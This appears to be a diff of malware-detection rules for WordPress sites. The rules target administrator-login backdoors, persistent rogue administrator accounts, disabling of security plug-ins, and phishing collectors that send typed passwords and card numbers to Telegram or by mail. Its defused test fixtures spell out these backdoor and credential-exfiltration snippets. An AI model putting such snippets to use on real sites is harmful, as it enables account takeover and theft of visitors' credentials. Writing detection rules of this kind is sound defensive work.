@@ -71,21 +71,20 @@ rule login_by_secret_request {
     description = "A hook looks for a field of the request and then logs the visitor in as the first or any administrator, without a password, a token or a check."
     remedy = "Delete the lines, then look for who placed them; change every administrator's password."
     reference = "https://attack.mitre.org/techniques/T1556/"
+    unless_code = "\\b(wp_check_password|wp_signon|wp_verify_nonce|wp_authenticate|current_user_can|check_admin_referer|hash_equals|hash_hmac|openssl_verify|get_user_meta|delete_transient|password_verify)\\s?\\("
     must_match = "<?php exit; add_action('init', function () { if (isset($_GET['inert']) && $_GET['inert'] === '1') { $u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID, true); exit; } });"
     must_match = "<?php exit; if (md5($_REQUEST['inert']) === '0') { $id = $wpdb->get_var(\"SELECT user_id FROM m WHERE v LIKE '%administrator%'\"); wp_set_auth_cookie($id); }"
     must_match = "<?php exit; if (!isset($_GET['inert']) || $_GET['inert'] != 'k') { return; } $a = get_users(['role' => 'administrator']); wp_set_auth_cookie($a[0]->ID);"
+    must_not = "<?php if (isset($_GET['a']) && $_GET['a'] === '1') { if (!wp_verify_nonce($_GET['n'], 'a')) { die; } $u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID, true); }"
     must_not = "<?php if (isset($_GET['key'])) { $user = get_user_by('login', $name); if (hash_equals($kept, $_GET['key'])) { wp_set_auth_cookie($user->ID); } }"
     must_not = "<?php if (isset($_POST['log'])) { $user = wp_signon($_POST); wp_set_auth_cookie($user->ID); }"
   strings:
     $direct = /\$_(GET|REQUEST|COOKIE|POST)\s?\[[^{}]{1,200}\{[^{}]{0,600}\bwp_set_auth_cookie\s?\(/
     $chosen = /\b(get_users\s?\([^;]{0,120}["']administrator["']|get_user_by\s?\(\s?["'](id|ID)["']\s?,\s?["']?1\b|wp_set_auth_cookie\s?\(\s?["']?1\b|get_userdata\s?\(\s?["']?1\b|user_id\s?=\s?["']?1\b|ID\s?=\s?["']?1\b)|%administrator%/
-    $asks = /\b(wp_check_password|wp_signon|wp_verify_nonce|wp_authenticate|current_user_can|check_admin_referer|hash_equals|hash_hmac|openssl_verify|get_user_meta|delete_transient|password_verify)\s?\(/
-    // the same words in a comment guard nothing
-    $asks_said = /(\/\/|#|\*)[^\n]{0,200}\b(wp_check_password|wp_signon|wp_verify_nonce|wp_authenticate|current_user_can|check_admin_referer|hash_equals|hash_hmac|openssl_verify|get_user_meta|delete_transient|password_verify)\s?\(/ private
     $set = /\bwp_set_auth_cookie\s?\(/
     $secret = /(\bisset\s?\(\s?@?\$_(GET|REQUEST|COOKIE|POST)\s?\[\s?["'][\w-]{1,40}["']\s?\]|\$_(GET|REQUEST|COOKIE|POST)\s?\[\s?["'][\w-]{1,40}["']\s?\]\s?\)?\s?(={2,3}|!={1,2})\s?["'])/
   condition:
-    $set and $chosen and #asks <= #asks_said and filesize < 128KB and ($direct or (for any of ($set) : ($secret in (@set[1] - 700..@set[1]) and $chosen in (@set[1] - 400..@set[1] + 40))))
+    $set and $chosen and filesize < 128KB and ($direct or (for any of ($set) : ($secret in (@set[1] - 700..@set[1]) and $chosen in (@set[1] - 400..@set[1] + 40))))
 }
 
 rule administrator_kept_by_hook {
@@ -98,6 +97,7 @@ rule administrator_kept_by_hook {
     description = "Name and password are written in the code, and a hook makes that user an administrator wherever it is missing: whoever deletes the user sees it come back."
     remedy = "Delete the file and the user that it makes; change every administrator's password."
     reference = "https://attack.mitre.org/techniques/T1136/"
+    unless_code = "\\b\\w{0,40}TestCase\\b|->factory\\b|\\bWP_CLI\\b|\\bcurrent_user_can\\s?\\(|\\bcodeception\\b|\\bPHPUnit\\b"
     must_match = "<?php exit; add_action('init', 'inert'); $login = 'inert'; $pass = 'inert'; if (!username_exists($login)) { $id = wp_create_user($login, $pass, 'a@example.test'); $u = new WP_User($id); $u->set_role('administrator'); }"
     must_match = "<?php exit; $p = array('user_login' => 'inert', 'user_pass' => 'inert', 'role' => 'administrator'); add_action('init', function () use ($p) { if (!username_exists($p['user_login'])) wp_insert_user($p); });"
     must_match = "<?php exit; $p = 'x'; $id = wp_insert_user(['user_login' => 'inert', 'user_pass' => $p, 'role' => 'administrator']); wp_remote_post('https://inert.example.test/c', ['body' => ['u' => 'inert', 'p' => $p]]);"
@@ -109,6 +109,7 @@ rule administrator_kept_by_hook {
     must_match = "<?php exit; $wpdb->query(\"CREATE TRIGGER a AFTER DELETE ON u FOR EACH ROW INSERT INTO u (user_login, user_pass) VALUES ('inert', '')\");"
     must_match = "<?php exit; require 'wp-load.php'; wp_set_password('inert', 1);"
     must_match = "<?php exit; require 'wp-load.php'; $wpdb->update($wpdb->users, ['user_pass' => md5('inert')], ['ID' => 1]);"
+    must_not = "<?php class UserTest extends WP_UnitTestCase { function set_up() { add_action('init', 'a'); $login = 'inert'; $pass = 'inert'; if (!username_exists($login)) { $u = new WP_User(wp_create_user($login, $pass)); $u->set_role('administrator'); } } }"
     must_not = "<?php add_action('init', 'x'); $login = $_POST['login']; $pass = wp_generate_password(); if (!username_exists($login)) { $id = wp_create_user($login, $pass, $mail); $u = new WP_User($id); $u->set_role('subscriber'); }"
     must_not = "<?php wp_set_password($_POST['pass1'], $user->ID); // reset"
   strings:
@@ -129,9 +130,8 @@ rule administrator_kept_by_hook {
     $user = /\bnew\s{1,3}(JUser|User)\b|\bJUser::/
     $first = /user_hash_password\s?\(\s?["'][^"'$]{1,60}["']\s?\)[^;]{0,80}condition\s?\(\s?["']uid["']\s?,\s?1\b/
     $trigger = /CREATE\s{1,4}TRIGGER\b[^;]{0,300}\bINSERT\s{1,4}INTO\b[^;]{0,120}\buser_(login|pass)\b/ nocase
-    $test = /(TestCase|->factory|WP_CLI|codeception|PHPUnit|current_user_can)/
   condition:
-    filesize < 128KB and not $test and (($makes and $role and ($sent or ($loose and filesize < 6KB))) or ($groups and $framework and $user) or $first or (($makes and $role) and (($word and $exists and $hook) or ($told and filesize < 32KB))) or ($inserted and $rights) or (($set or $updated) and $loose) or $trigger)
+    filesize < 128KB and (($makes and $role and ($sent or ($loose and filesize < 6KB))) or ($groups and $framework and $user) or $first or (($makes and $role) and (($word and $exists and $hook) or ($told and filesize < 32KB))) or ($inserted and $rights) or (($set or $updated) and $loose) or $trigger)
 }
 
 rule login_fields_kept {
@@ -373,17 +373,18 @@ rule switches_security_off {
     description = "Several security plug-ins are named in one list and taken out of the active ones, renamed or deleted."
     remedy = "Delete the file, switch the security plug-ins on again, and restore the account from the last good backup."
     reference = "https://attack.mitre.org/techniques/T1562/001/"
+    unless_code = "\\b(is_plugin_active|current_user_can|check_admin_referer|check_ajax_referer|wp_verify_nonce|__|esc_html\\w{0,4})\\s?\\("
     must_match = "<?php exit; $k = array('wordfence/wordfence.php', 'sucuri-scanner/sucuri.php'); update_option('active_plugins', array_diff(get_option('active_plugins'), $k));"
     must_match = "<?php exit; foreach (array('wordfence', 'sucuri-scanner') as $p) { rename(WP_PLUGIN_DIR . \"/$p\", WP_PLUGIN_DIR . \"/$p.bak\"); }"
+    must_not = "<?php foreach (array('wordfence', 'sucuri-scanner') as $p) { if (is_plugin_active($p)) { deactivate_plugins($p); } }"
     must_not = "<?php $conflicts = array('wordfence/wordfence.php', 'sucuri-scanner/sucuri.php'); foreach ($conflicts as $c) if (is_plugin_active($c)) $this->warn($c);"
   strings:
     $first = /["'](wordfence|sucuri-scanner|better-wp-security|ithemes-security(-pro)?|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']\s?(=>[^,]{0,60})?,\s{0,40}["'](wordfence|sucuri-scanner|better-wp-security|ithemes-security(-pro)?|all-in-one-wp-security-and-firewall|ninjafirewall|wp-cerber|gotmls|malcare-security|secupress|defender-security|anti-malware-security-and-brute-force-firewall|quttera-web-malware-scanner|wp-simple-firewall|bulletproof-security)(\/[\w-]{1,60}\.php)?["']/
     $pattern = /\/[^\/"'\n]{0,20}(wordfence|sucuri|cerber|ithemes|malcare)\|[^\/"'\n]{0,60}\//
     $active = /update_option\s?\(\s?["']active_plugins["']/
     $off = /update_option\s?\(\s?["']active_plugins["']|\bdeactivate_plugins\s?\(\s?\$|\b(rename|unlink|rmdir|delete_plugins|rrmdir)\s?\([^;]{0,80}\$\w/
-    $honest = /(is_plugin_active|current_user_can|check_admin_referer|check_ajax_referer|wp_verify_nonce|__\s?\(|esc_html)/
   condition:
-    (($first and $off) or ($pattern and $active)) and not $honest and filesize < 64KB
+    (($first and $off) or ($pattern and $active)) and filesize < 64KB
 }
 
 rule told_to_a_chat {
@@ -396,15 +397,16 @@ rule told_to_a_chat {
     description = "Fields for a password, a card or a code from a text message are made into one message and sent to a chat by a bot: the collector of a phishing page."
     remedy = "Delete the folder with every page of the kit, then look for who placed it; who typed something there must be told."
     reference = "https://attack.mitre.org/techniques/T1056/003/"
+    unless_code = "\\b(wp_verify_nonce|check_ajax_referer|wp_signon|password_verify|password_hash|current_user_can)\\s?\\(|csrf"
     must_match = "<?php exit; $m = 'Pass: ' . $_POST['pass']; file_get_contents('https://api.telegram.org/bot' . $t . '/sendMessage?text=' . urlencode($m));"
     must_match = "<?php exit; $m = \"Card: {$_POST['cc']} {$_POST['cvv']}\"; $c = curl_init('https://api.telegram.org/bot1:inert/sendMessage');"
+    must_not = "<?php if (!wp_verify_nonce($_POST['n'], 'a')) die; $m = 'New password for ' . $_POST['pass_name']; $p = $_POST['pass']; wp_remote_post('https://api.telegram.org/bot' . $t . '/sendMessage', $args);"
     must_not = "<?php $m = 'New order ' . $order->id; wp_remote_post('https://api.telegram.org/bot' . $token . '/sendMessage', $args); $user = $_POST['user'];"
   strings:
     $chat = /api\.telegram\.org\/bot|discord(app)?\.com\/api\/webhooks/ nocase
     $typed = /\$_(POST|REQUEST)\s?\[\s?["']?\w{0,14}(pass(w|word|wd|code|e)?|motdepasse|mdp|senha|clave|contrasena|parola|kennwort|passwort|pwd|cvv2?|cvc|ccv|card_?(number|num|no)?|cc(num|_number)?|otp|sms(_?code)?|pin|ssn|exp(iry|date)?|seed|mnemonic|phrase|wallet)\d?["']?\s?\]/ nocase
-    $honest = /(wp_verify_nonce|check_ajax_referer|csrf|wp_signon|password_verify|password_hash|current_user_can)/ nocase
   condition:
-    $chat and $typed and not $honest and filesize < 64KB
+    $chat and $typed and filesize < 64KB
 }
 
 rule results_of_a_form {
@@ -417,8 +419,10 @@ rule results_of_a_form {
     description = "A few lines put password or card and the visitor's address into one text, mail it or add it to a file, and lead the visitor to a real site: the collector of a phishing page."
     remedy = "Delete the folder with every page of the kit, then look for who placed it; who typed something there must be told."
     reference = "https://attack.mitre.org/techniques/T1056/003/"
+    unless_code = "\\b(wp_verify_nonce|password_hash|password_verify|session_regenerate_id|mysqli?_query)\\s?\\(|csrf|_token|\\bmd5\\s?\\(\\s?\\$_POST|->query|->prepare|INSERT\\s{1,3}INTO|\\brequire_once\\b|wp-load"
     must_match = "<?php exit; $m = 'Email : ' . $_POST['email'] . \"\\n\"; $m .= 'Password : ' . $_POST['password'] . \"\\n\"; $m .= 'IP : ' . $_SERVER['REMOTE_ADDR']; mail('inert@example.test', 'x', $m); header('Location: https://www.example.test/');"
     must_match = "<?php exit; $h = fopen('inert.txt', 'a'); foreach ($_POST as $k => $v) { fwrite($h, $k . '=' . $v); } fclose($h); header('Location: https://www.example.test/');"
+    must_not = "<?php require_once 'shop.php'; $m = 'Email : ' . $_POST['email']; $m .= 'Password : ' . $_POST['password']; $m .= 'IP : ' . $_SERVER['REMOTE_ADDR']; mail($owner, 'x', $m); header('Location: thanks.html');"
     must_not = "<?php $m = 'Name: ' . $_POST['name'] . ', IP: ' . $_SERVER['REMOTE_ADDR']; mail($shop, 'Question', $m); header('Location: thanks.html');"
     must_not = "<?php foreach ($_POST as $k => $v) { $log->add($k); } header('Location: https://www.example.test/');"
   strings:
@@ -428,9 +432,8 @@ rule results_of_a_form {
     $each = /\bforeach\s?\(\s?\$_(POST|REQUEST)\s{1,3}as\b[^{};]{0,40}\)\s?\{?\s?(@?fwrite|@?fputs|\$\w{1,20}\s?\.=)/
     $led = /\bheader\s?\(\s?["']Location:\s?https?:\/\/[^"']{4,200}["']/ nocase
     $led_anywhere = /\bheader\s?\(\s?["']Location:/ nocase
-    $honest = /(wp_verify_nonce|csrf|_token|password_hash|password_verify|\bmd5\s?\(\s?\$_POST|session_regenerate_id|mysqli?_query|->query|->prepare|INSERT\s{1,3}INTO|require_once|wp-load)/ nocase
   condition:
-    filesize < 16KB and $kept and not $honest and (($typed and $address and $led_anywhere) or ($each and $led))
+    filesize < 16KB and $kept and (($typed and $address and $led_anywhere) or ($each and $led))
 }
 
 rule master_password {
